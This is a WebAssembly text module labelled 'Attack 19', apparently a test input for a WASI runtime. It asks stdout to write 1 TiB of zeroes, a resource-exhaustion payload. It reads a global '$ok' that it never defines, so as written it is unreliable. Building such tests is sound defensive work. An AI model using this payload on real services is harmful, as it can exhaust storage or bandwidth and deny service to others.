;; Attack 19: a stream that fills itself: one number in, 1 TiB out.
(module
  (import "wasi:cli/stdout@0.2.0" "get-stdout" (func $stdout (result i32)))
  (import "wasi:io/streams@0.2.0" "[method]output-stream.write-zeroes" (func $zeroes (param i32 i64 i32)))
  (func $handle (result i32)
    (call $zeroes (call $stdout) (i64.const 0x100_0000_0000) (i32.const 2048))
    (global.get $ok)))
